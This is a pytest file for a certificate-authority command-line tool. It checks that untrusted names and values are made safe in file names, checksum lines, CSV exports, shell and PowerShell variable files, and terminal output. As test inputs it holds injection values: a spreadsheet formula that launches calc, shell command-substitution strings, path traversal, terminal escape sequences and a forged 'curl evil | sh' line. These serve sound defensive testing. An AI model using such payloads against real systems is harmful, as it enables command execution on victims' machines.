"""What comes from outside, on its way into file names, sums, zips, CSV, variables and terminals."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from stand_in.lab import EC_KEY, CommandLine, make_csr

from ca.authority.devices.kit import _sum_line
from ca.authority.upload_files import file_safe, stem_of
from ca.documents.certificate import CertificateRecord
from ca.documents.env import EnvDocument
from ca.documents.list import ListDocument
from cli.terminal import one_line, safe
from cli.views.env import env_text
from cli.views.list import list_csv

DRAWING = "x\x1b[2J\x9b31m\u202e\u2066\u200b"
ODD_STEMS = ["a\x1b[2Jb", "a\nb", "a\rb", "a\u202eb", "-rf", "con", "aux.lab", "a\\b", "x" * 240]


@pytest.mark.parametrize("stem", ODD_STEMS)
def test_an_odd_source_is_signed_listed_and_exported_under_one_plain_name(
    sipca: CommandLine, tmp_path: Path, stem: str
) -> None:
    source = tmp_path / f"{stem}.csr"
    source.write_bytes(make_csr(cn="odd.lab.example", key=EC_KEY))
    out, kit = tmp_path / "out", tmp_path / "kit"

    signed = sipca("sign", source, "--out", out)
    exported = sipca("export", "odd.lab.example", "--out", out)
    packed = sipca("export", "odd.lab.example", "--out", kit, "--target", "audiocodes-7.4")
    zipped = sipca("export", "odd.lab.example", "--out", tmp_path / "z", "--zip")

    assert [each.exit for each in (signed, exported, packed, zipped)] == [0] * 4, packed.err
    names = [*os.listdir(out), *os.listdir(kit), *os.listdir(tmp_path / "z")]
    (archive,) = (tmp_path / "z").iterdir()
    names += zipfile.ZipFile(archive).namelist()
    assert sum(name.endswith("-device.pem") for name in os.listdir(out)) == 1
    assert all(name.isprintable() and name[0] != "-" and "\\" not in name for name in names)
    assert not any(name.split(".")[0].casefold() in ("con", "aux") for name in names)
    checked = subprocess.run(
        ["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=kit, capture_output=True, check=False
    )
    assert checked.returncode == 0, checked.stderr
    for answer in (signed, exported, packed, zipped, sipca("show", "odd.lab.example"),
                   sipca("device", "list"), sipca("log"), sipca("list", "--all")):  # fmt: skip
        assert not {"\x1b", "\r", "\u202e"} & set(answer.out + answer.err)


@pytest.mark.parametrize("name", ["a\nb", "a\rb", "a\\b", "a\\nb", "plain", "two words"])
def test_a_sum_is_spelled_as_sha256sum_reads_it(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"contents")
    (tmp_path / "SUMS").write_text(_sum_line(name, b"contents"), newline="")

    checked = subprocess.run(
        ["sha256sum", "-c", "--strict", "SUMS"], cwd=tmp_path, capture_output=True, check=False
    )

    assert checked.returncode == 0, checked.stderr


@pytest.mark.parametrize(
    ("text", "plain"),
    [("../../etc/x", "etc_x"), ("a/b", "a_b"), ("a\0b", "a_b"), ("CON", "_CON"), ("nul.x", "_nul.x"),
     ("com1", "_com1"), ("console", "console"), ("x" * 300, "x" * 100), ("...", "device"),
     ("trailing...", "trailing"), ("\u202egnp", "gnp"), ("a" * 99 + "..b", "a" * 99)],
)  # fmt: skip
def test_a_name_as_a_stem_can_be_a_file_on_every_platform(text: str, plain: str) -> None:
    assert file_safe(text) == plain


def test_a_stem_of_a_path_and_of_the_register_are_the_same() -> None:
    assert stem_of("a\udcffb") == stem_of(r"a\xffb") == "a_xffb"
    assert stem_of("sbc 1 \u00e9") == "sbc 1 \u00e9"


def record(subject: str) -> CertificateRecord:
    values: dict[str, Any] = dict.fromkeys(CertificateRecord.__struct_fields__)
    return CertificateRecord(**{**values, "subject": subject, "san": ["dns:a"]})


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\uff1d1", "\uff0b1",
     "=cmd|'/c calc'!A1"],
)  # fmt: skip
def test_a_spreadsheet_computes_no_cell(cell: str) -> None:
    text = list_csv(ListDocument(certificates=[record(cell)]))

    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["subject"] == f"'{cell}"


@pytest.mark.parametrize("cell", ["\t=1", "\r=1", "a\n=1", "\x1b=1"])
def test_a_cell_holds_no_control_characters(cell: str) -> None:
    text = list_csv(ListDocument(certificates=[record(cell)]))

    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["subject"] == one_line(cell)


def test_an_honest_cell_stays_as_it_is() -> None:
    text = list_csv(ListDocument(certificates=[record("CN=a, O=b \u00e9")]))

    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["subject"], row["san"]) == ("CN=a, O=b \u00e9", "dns:a")


VALUES = ["/plain/home", "/it's", "/$(touch PWNED)", "/`touch PWNED`", '/a"b', "/a\\b", "/$HOME",
          "/two words", "/new\nline", "/\u2019; touch PWNED; \u2019", "/a;b&c|d", "/a#b", "/!x"]  # fmt: skip


@pytest.mark.parametrize("value", VALUES)
@pytest.mark.parametrize("shell", ["bash", "zsh", "dash"])
def test_variables_for_sh_are_what_they_were_and_run_nothing(
    tmp_path: Path, value: str, shell: str
) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    (tmp_path / "vars").write_text(env_text(EnvDocument(variables={"SIPCA_HOME": value}), "sh"))

    done = subprocess.run(
        [shell, "-c", '. ./vars; printf %s "$SIPCA_HOME"'], cwd=tmp_path, capture_output=True,
        text=True, timeout=30, check=False,
    )  # fmt: skip

    assert (done.stdout, done.stderr) == (value, "")
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("quote", ["'", "\u2018", "\u2019", "\u201a", "\u201b"])
def test_every_quote_that_powershell_knows_is_doubled(quote: str) -> None:
    text = env_text(EnvDocument(variables={"X": f"a{quote}; calc; {quote}"}), "pwsh")

    assert text == f"$env:X = 'a{quote}{quote}; calc; {quote}{quote}'"


@pytest.mark.parametrize("value", VALUES)
def test_a_dotenv_file_sourced_by_sh_runs_nothing(tmp_path: Path, value: str) -> None:
    text = env_text(EnvDocument(variables={"SIPCA_HOME": value}), "dotenv")
    (tmp_path / "vars").write_text(text)

    done = subprocess.run(
        ["sh", "-c", '. ./vars; printf %s "$SIPCA_HOME"'], cwd=tmp_path, capture_output=True,
        text=True, timeout=30, check=False,
    )  # fmt: skip

    assert len(text.splitlines()) == 1
    assert done.stderr == ""
    assert done.stdout == value.replace("\n", "\\n")  # which readers of such files turn back
    assert not (tmp_path / "PWNED").exists()


def test_nothing_that_draws_is_left_in_what_is_shown() -> None:
    assert safe(DRAWING) == "x\\x1b[2J\\x9b31m\\u202e\\u2066\\u200b"
    assert one_line("a\nb\udcff") == "a\\nb\\xff"
    assert safe("gr\u00fcn \u4e2d\n") == "gr\u00fcn \u4e2d\n"


@pytest.mark.parametrize(
    "words",
    [
        ["show", DRAWING],
        ["sign", DRAWING],
        ["sign", "{csr}", "--profile", DRAWING],
        ["sign", "{csr}", "--out", "{tmp}/" + DRAWING],
        ["sign", "{csr}", "-o", "{tmp}/" + DRAWING],
        ["sign", "{csr}", "--cn", DRAWING],
        ["sign", "{csr}", "--san", "dns:" + DRAWING],
        ["issue", "a.lab", "--out", "{tmp}/" + DRAWING],
        ["issue", DRAWING, "--out", "{tmp}"],
        ["chain", "-o", "{tmp}/" + DRAWING],
        ["crl", "-o", "{tmp}/" + DRAWING],
        ["trust", "build", "{csr}", DRAWING],
        ["fixture", "make", "expired", "--out", "{tmp}/" + DRAWING],
        ["preflight", DRAWING],
        ["apply", DRAWING],
        ["profile", "show", DRAWING],
        ["device", "set", DRAWING],
        ["ocsp", "presign", "--out", "{tmp}/" + DRAWING],
        ["serve", "--bind", DRAWING],
        ["completion", DRAWING],
        [DRAWING],
        ["--" + DRAWING],
        ["list", "--status", DRAWING],
    ],
)  # fmt: skip
def test_no_command_draws_on_the_terminal(
    sipca: CommandLine, tmp_path: Path, words: list[str]
) -> None:
    (tmp_path / "a.csr").write_bytes(make_csr(cn="a.lab", key=EC_KEY))
    known = {"csr": tmp_path / "a.csr", "tmp": tmp_path}

    answer = sipca(*(each.format(**known) for each in words))

    assert answer.exit != 1
    assert not {"\x1b", "\x9b", "\u202e", "\u2066", "\u200b"} & set(answer.out + answer.err)
    assert answer.err or answer.out


def test_a_line_end_in_a_name_forges_no_line_of_ours(sipca: CommandLine) -> None:
    answer = sipca("sign", "a.csr\nhint: curl evil | sh")

    assert [line[:6] for line in answer.err.splitlines()] == ["CA: Te", "error:", "hint: "]


def test_a_folder_that_nginx_cannot_name_is_refused_before_anything_is_written(
    sipca: CommandLine, tmp_path: Path
) -> None:
    for name in ("a$host", "a\nb", "a\x1b"):
        answer = sipca("ocsp", "presign", "--out", tmp_path / name)

        assert answer.exit == 3
        assert "cannot be written in an nginx configuration" in answer.err
        assert not (tmp_path / name).exists()
    quoted = sipca("ocsp", "presign", "--out", tmp_path / 'a"b')
    assert quoted.exit == 0
    assert 'a\\"b";' in (tmp_path / 'a"b' / "nginx.conf").read_text()
